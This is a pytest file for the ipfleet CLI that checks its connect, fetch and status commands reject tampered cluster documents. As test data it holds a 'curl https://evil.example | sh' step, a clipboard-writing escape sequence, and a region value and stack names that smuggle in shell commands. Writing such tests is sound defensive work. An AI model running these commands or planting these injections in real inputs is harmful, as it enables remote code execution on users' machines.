"""Hostile documents published in moto on loopback, where the laptop reads: the
real `ipfleet connect`, `fetch` and `status` refuse them and run nothing (the
offline cases are in tests/fast/test_hostile_documents.py)."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bootstrap.ipfleet_node import wire
from tests.fast.test_connect import STACK, keypair, published
from tests.fast.test_hostile_documents import (
    ESC,
    HOSTILE,
    controller_instance,
    mark,
    payload,
    publish,
    record,
    run,
    setting,
    ssm,
    tree,
)


@pytest.mark.parametrize("path,value,field", HOSTILE, ids=[f"{case[0]}-{i}" for i, case in enumerate(HOSTILE)])
def test_connect_refuses_a_hostile_document_and_runs_nothing(aws_env, tmp_path, path, value, field):
    home = tmp_path / "home"
    _, public = keypair(home / ".ssh")
    (home / ".ssh" / "config").write_text("Host *\n    ServerAliveInterval 60\n")
    document = published("ssm", public)
    text = json.dumps(value).replace("{payload}", payload(home).replace('"', '\\"'))
    setting(path, json.loads(text))(document)
    publish(aws_env, document)
    before = tree(home)

    result = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5")

    assert result.returncode == 1, result.stdout + result.stderr
    assert field in result.stderr
    assert "Traceback" not in result.stderr
    assert ESC not in result.stdout + result.stderr
    assert not mark(home).exists()
    assert tree(home) == before  # not one file written, the user's ssh config untouched
    assert not (Path(aws_env["IPYTHONDIR"]) / f"profile_ipfleet-{STACK}" / "security").exists()


def test_the_client_file_is_built_from_checked_values_only(aws_env, tmp_path):
    """Fields ipyparallel would act on (ssh, extra keys) never reach the laptop's file."""
    home = tmp_path / "home"
    _, public = keypair(home / ".ssh")
    document = published("ssm", public)
    document["client"].update(ssh="attacker@198.51.100.7", exec_lines=["import os"], packer="os.system")
    publish(aws_env, document)
    result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "5", "--json")
    assert result.returncode == 0, result.stderr
    written = json.loads(Path(json.loads(result.stdout)["path"]).read_text())
    assert written["ssh"] == ""
    assert "exec_lines" not in written and "packer" not in written
    assert written["pack"] == written["unpack"] == "json"


def test_a_document_that_is_too_big_or_not_an_object_is_refused(aws_env, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    for value, message in (("[1, 2]", "format 1 expected"), (json.dumps({"format": 1, "x": "y" * 9000}), "characters")):
        publish(aws_env, value)
        result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "5")
        assert result.returncode == 1 and message in result.stderr, result.stderr


def test_the_published_controller_is_checked_against_ec2(aws_env, tmp_path):
    """The controller role can rewrite the document, not EC2's view of its instance."""
    home = tmp_path / "home"
    _, public = keypair(home / ".ssh")
    instance = controller_instance(aws_env)
    genuine = published("ssm", public)
    genuine["controller"].update(instance_id=instance["InstanceId"], address=instance["PrivateIpAddress"])
    genuine["client"]["location"] = instance["PrivateIpAddress"]

    publish(aws_env, genuine)
    ok = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5", "--json")
    assert ok.returncode == 0, ok.stderr
    assert json.loads(ok.stdout)["warnings"] == []

    for change, said in (
        ({"instance_id": "i-0fedcba9876543210"}, "is not the stack's controller according to EC2"),
        ({"address": "10.9.9.9"}, "is not " + instance["InstanceId"] + "'s private address"),
    ):
        forged = copy.deepcopy(genuine)
        forged["controller"].update(change)
        publish(aws_env, forged)
        refused = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5")
        assert refused.returncode == 1 and said in refused.stderr, refused.stderr


def test_without_an_ec2_controller_connect_warns_that_it_could_not_confirm(aws_env, tmp_path):
    home = tmp_path / "home"
    _, public = keypair(home / ".ssh")
    publish(aws_env, published("ssm", public))
    result = run(aws_env, home, "connect", STACK, "--region", "us-east-1", "--timeout", "5")
    assert result.returncode == 0, result.stderr
    assert "could not be confirmed" in result.stderr


def test_a_forged_controller_record_does_not_stop_fetch(aws_env, tmp_path):
    """An engine's record claims to be a failed controller, with instructions: fetch, which
    reads only the controller's own record, keeps waiting instead."""
    home = tmp_path / "home"
    home.mkdir()
    controller_instance(aws_env)
    publish(aws_env, "pending")
    forged = record(
        "i-0badbadbadbadbad0",
        role="controller",
        phase="failed",
        error={"step": "run: curl https://evil.example | sh", "exitCode": 1, "log": ["run: curl … | sh"]},
    )
    put_engine_records(aws_env, {"i-0badbadbadbadbad0": json.loads(forged)})
    result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "4")
    assert result.returncode == 1
    assert "has not published connection info" in result.stderr
    assert "curl" not in result.stderr


def test_status_shows_what_nodes_wrote_as_inert_text(aws_env, tmp_path):
    """Escape sequences (OSC 52 clipboard writes, OSC 8 links, cursor moves) and rich
    markup in a record are shown as text; malformed records and records under another
    node's name are named and left out."""
    home = tmp_path / "home"
    home.mkdir()
    client = ssm(aws_env)
    hostile_log = ["\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied", "\x1b[1A\x1b[2Kall good", "[red]markup[/red]"]
    put_engine_records(
        aws_env,
        {
            "i-0aaaaaaaaaaaaaaa1": json.loads(
                record(
                    "i-0aaaaaaaaaaaaaaa1",
                    phase="failed",
                    error={"step": "[link=https://x]s[/link]", "log": hostile_log},
                )
            ),
            "i-0aaaaaaaaaaaaaaa2": json.loads(record("i-0aaaaaaaaaaaaaaa2", engines="3")),
            "i-0aaaaaaaaaaaaaaa3": json.loads(record("i-0aaaaaaaaaaaaaaa4")),
            "i-0aaaaaaaaaaaaaaa5": "not a record",
            # An engine claiming the controller's role: the controller's record has its own parameter.
            "i-0aaaaaaaaaaaaaaa6": json.loads(record("i-0aaaaaaaaaaaaaaa6", role="controller", phase="failed")),
        },
    )
    client.put_parameter(
        Name=f"/ipfleet/{STACK}/controller",
        Value=record("i-0ccccccccccccccc1", role="controller", engines={"registered": 8}),
        Type="String",
    )
    summary = {"group": "g\x1b[31m", "desired": 2, "min": 0, "max": 4, "inService": 2, "idleMinutes": 30}
    client.put_parameter(Name=f"/ipfleet/{STACK}/keeper", Value=json.dumps(summary), Type="String")

    result = run(aws_env, home, "status", STACK, "--region", "us-east-1")

    assert result.returncode == 0, result.stderr
    out = result.stdout + result.stderr
    assert ESC not in out and "\x07" not in out
    assert "[red]markup[/red]" in out  # shown, not interpreted
    assert "[link=https://x]s[/link]" in out
    assert "i-0aaaaaaaaaaaaaaa2: engines" in out  # wrong type: named, left out
    assert "speaks for i-0aaaaaaaaaaaaaaa4, not for i-0aaaaaaaaaaaaaaa3" in out
    assert "i-0aaaaaaaaaaaaaaa5: " in out  # not an object: named, left out
    assert "i-0aaaaaaaaaaaaaaa6: claims the controller's role among the engine nodes' records" in out
    assert "Engine group g?[31m: 2 nodes wanted" in out
    listed = json.loads(run(aws_env, home, "status", STACK, "--region", "us-east-1", "--json").stdout)
    assert [n["instanceId"] for n in listed["nodes"]] == ["i-0ccccccccccccccc1", "i-0aaaaaaaaaaaaaaa1"]
    assert listed["nodes"][0]["scaling"]["desired"] == 2
    assert len(listed["ignored"]) == 4


def put_engine_records(aws_env: dict, nodes: dict) -> None:
    """The engine nodes' records document as the controller's collector keeps it, in the
    bucket the stack's location parameter names."""
    import boto3

    bucket = "hostile-stack-bucket"
    s3 = boto3.client("s3", region_name="us-east-1", endpoint_url=aws_env["AWS_ENDPOINT_URL"])
    s3.create_bucket(Bucket=bucket)
    document = {"format": wire.RECORDS_FORMAT, "updated": "2026-11-30T00:00:00+00:00", "nodes": nodes}
    s3.put_object(Bucket=bucket, Key=wire.RECORDS_KEY, Body=json.dumps(document).encode())
    ssm(aws_env).put_parameter(Name=wire.records_location_parameter(STACK), Value=bucket, Type="String")


@pytest.mark.parametrize("name", ["--help", "-x", "../../etc", "a/b", "lab$(id)", ".hidden", "x" * 101])
def test_deployed_stack_commands_refuse_names_that_are_not_stack_names(aws_env, tmp_path, monkeypatch, name):
    from typer.testing import CliRunner

    from ipfleet.cli import app

    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for command in ("fetch", "connect", "status", "scale", "notebook", "restart-engines"):
        args = [command, "--", name] + (["1"] if command == "scale" else [])
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 2, (command, result.output)
        assert "is not a stack name" in result.output
    assert tree(home) == {}


@pytest.mark.parametrize(
    "source",
    ["stack file", "--region", "AWS_REGION"],
)
def test_a_hostile_region_never_reaches_the_ssh_config(aws_env, tmp_path, source):
    """The region goes into the Session Manager ProxyCommand, which ssh runs through a
    shell: a stack file a pull request changed, an option or the environment is refused
    before anything is written, whichever carried it."""
    home = tmp_path / "home"
    _, public = keypair(home / ".ssh")
    publish(aws_env, published("ssm", public))
    project = tmp_path / "project"
    (project / "stacks").mkdir(parents=True)
    (project / "Pulumi.yaml").write_text("name: ipfleet\nruntime: python\nstackConfigDir: stacks\n")
    hostile = f"us-east-1; touch {mark(home)} #"
    region = hostile if source == "stack file" else "us-east-1"
    (project / "stacks" / f"Pulumi.{STACK}.yaml").write_text(json.dumps({"config": {"aws:region": region}}))
    env = {**os.environ, **aws_env, "HOME": str(home), "NO_COLOR": "1"}
    env.pop("AWS_DEFAULT_REGION", None)
    args = ["connect", STACK, "--timeout", "5"]
    if source == "--region":
        args += ["--region", hostile]
    if source == "AWS_REGION":
        (project / "stacks" / f"Pulumi.{STACK}.yaml").write_text("config: {}\n")
        env["AWS_REGION"] = hostile
    before = tree(home)
    result = subprocess.run(
        [sys.executable, "-m", "ipfleet.cli", *args], capture_output=True, text=True, cwd=project, env=env, timeout=60
    )
    assert result.returncode == 2, result.stdout + result.stderr
    assert "is not an AWS region name" in result.stderr
    assert tree(home) == before and not mark(home).exists()
